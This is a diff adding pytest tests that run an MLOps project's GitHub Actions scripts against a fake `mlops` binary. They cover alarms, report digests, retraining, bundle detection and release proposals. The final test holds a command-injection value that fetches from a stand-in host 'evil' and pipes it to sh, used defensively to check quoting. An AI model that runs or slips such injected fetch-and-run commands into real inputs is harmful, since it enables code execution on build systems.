@@ -1,0 +1,133 @@
+"""The compiled scripts, run as GitHub runs them, with a recording stand-in for `mlops`."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.builders.repositories import commit, git
+from tests.builders.workflows import jobs, project, workflows
+
+JOBS = jobs(workflows(project()))
+needs_jq = pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed; GitHub's runners have it")
+
+
+def script(job: str, name: str) -> str:
+    (step,) = [step for step in JOBS[job]["steps"] if step["name"] == name]
+    return str(step["run"])
+
+
+def run(folder: Path, text: str, **environment: str) -> subprocess.CompletedProcess[str]:
+    values = {"PATH": os.environ["PATH"], "GITHUB_OUTPUT": str(folder / "output"), **environment}
+    command = ["bash", "-e", "-c", text]
+    return subprocess.run(command, cwd=folder, env=values, capture_output=True, text=True, check=False)
+
+
+def fake(folder: Path, body: str = "") -> None:
+    """Put a stand-in where `make setup` puts mlops: it notes its arguments, then does what `body` says."""
+    path = folder / ".venv" / "bin" / "mlops"
+    path.parent.mkdir(parents=True)
+    path.write_text(f'#!/bin/sh\necho "$@" >> calls\n{body}\n')
+    path.chmod(0o755)
+
+
+def calls(folder: Path) -> list[str]:
+    return (folder / "calls").read_text().splitlines() if (folder / "calls").exists() else []
+
+
+def outputs(folder: Path) -> dict[str, str]:
+    return dict(line.split("=", 1) for line in (folder / "output").read_text().splitlines())
+
+
+def test_an_alarm_is_told_with_the_digest_of_its_report_and_fails_nothing(tmp_path: Path) -> None:
+    (tmp_path / ".mlops" / "monitor" / "bad").mkdir(parents=True)
+    report = tmp_path / ".mlops" / "monitor" / "bad" / "report.json"
+    report.write_text("{}")
+    fake(tmp_path, 'case "$2" in bad) exit 2 ;; young) exit 7 ;; esac')
+    done = run(tmp_path, script("monitor/every-day", "Monitor"), PIPELINES="good bad young")
+    assert done.returncode == 0, done.stderr
+    assert outputs(tmp_path) == {"alarm-bad": hashlib.sha256(b"{}").hexdigest(), "alarmed": "true"}
+    assert done.stdout == "::warning title=Alarm::bad\n"
+
+
+def test_a_monitor_that_cannot_look_is_a_failure_and_stops_no_other(tmp_path: Path) -> None:
+    fake(tmp_path, 'case "$2" in broken) exit 6 ;; esac')
+    done = run(tmp_path, script("monitor/every-day", "Monitor"), PIPELINES="broken good")
+    assert done.returncode == 6
+    assert calls(tmp_path) == ["monitor broken", "monitor good"]
+
+
+def alarms(**digests: str) -> str:
+    told = {f"alarm-{name}": digest for name, digest in digests.items()}
+    needs: dict[str, Any] = {
+        "every-day": {"result": "success", "outputs": {"alarmed": "true", **told}},
+        "every-hour": {"result": "skipped", "outputs": {}},
+    }
+    return json.dumps(needs)
+
+
+@needs_jq
+def test_a_report_that_was_swapped_proposes_nothing_and_ends_with_5(tmp_path: Path) -> None:
+    for name in ("churn", "visits"):
+        (tmp_path / "monitoring" / name).mkdir(parents=True)
+        (tmp_path / "monitoring" / name / "report.json").write_text(f'{{"pipeline": "{name}"}}')
+    fake(tmp_path)
+    good = hashlib.sha256(b'{"pipeline": "visits"}').hexdigest()
+    needs = alarms(churn="0" * 64, visits=good, missing="1" * 64, quiet="")
+    done = run(tmp_path, script("monitor/retrain", "Propose a retraining"), NEEDS=needs)
+    assert done.returncode == 5
+    assert calls(tmp_path) == ["retrain visits --cause monitoring/visits/report.json --propose"]
+    assert "monitoring/churn/report.json is not the report that was made" in done.stdout
+    assert "monitoring/missing/report.json is not the report that was made" in done.stdout
+
+
+@needs_jq
+def test_every_alarm_is_acted_on_even_where_one_fails(tmp_path: Path) -> None:
+    digests = {}
+    for name in ("churn", "visits"):
+        (tmp_path / "monitoring" / name).mkdir(parents=True)
+        (tmp_path / "monitoring" / name / "report.json").write_text(name)
+        digests[name] = hashlib.sha256(name.encode()).hexdigest()
+    fake(tmp_path, 'case "$2" in churn) exit 6 ;; esac')
+    done = run(tmp_path, script("monitor/retrain", "Propose a retraining"), NEEDS=alarms(**digests))
+    assert done.returncode == 6
+    assert [call.split()[1] for call in calls(tmp_path)] == ["churn", "visits"]
+
+
+@pytest.mark.parametrize(
+    ("before", "expected"),
+    [("HEAD~1", "visits"), ("HEAD", ""), ("0" * 40, "churn visits"), ("", "churn visits")],
+)
+def test_a_bundle_is_new_where_the_merge_brought_its_report(before: str, expected: str, tmp_path: Path) -> None:
+    git(tmp_path, "init", "-q", "-b", "main")
+    for name in ("churn", "visits"):
+        (tmp_path / "pipelines" / name / "reports").mkdir(parents=True)
+        (tmp_path / "pipelines" / name / "reports" / "bundle.json").write_text("{}")
+        commit(tmp_path, name)
+    sha = git(tmp_path, "rev-parse", before).strip() if before.startswith("HEAD") else before
+    done = run(tmp_path, script("main/register", "Find the new bundles"), BEFORE=sha)
+    assert done.returncode == 0, done.stderr
+    assert outputs(tmp_path) == {"names": expected}
+
+
+def test_each_new_bundle_is_proposed_where_the_project_says(tmp_path: Path) -> None:
+    fake(tmp_path)
+    (step,) = [step for step in JOBS["main/register"]["steps"] if step["name"] == "Propose the releases"]
+    assert step["env"]["ENVIRONMENTS"] == "staging"
+    done = run(tmp_path, step["run"], ENVIRONMENTS="staging", PIPELINES="churn visits")
+    assert done.returncode == 0
+    assert calls(tmp_path) == [f"release {name} --env staging --propose" for name in ("churn", "visits")]
+
+
+def test_what_was_chosen_reaches_a_verb_as_one_word(tmp_path: Path) -> None:
+    fake(tmp_path)
+    hostile = 'x";curl${IFS}evil|sh;"'
+    run(tmp_path, script("rollback/rollback", "Propose the bundle before"), PIPELINES=hostile, ENVIRONMENT="prod")
+    assert calls(tmp_path) == [f"rollback {hostile} --env prod --propose"]
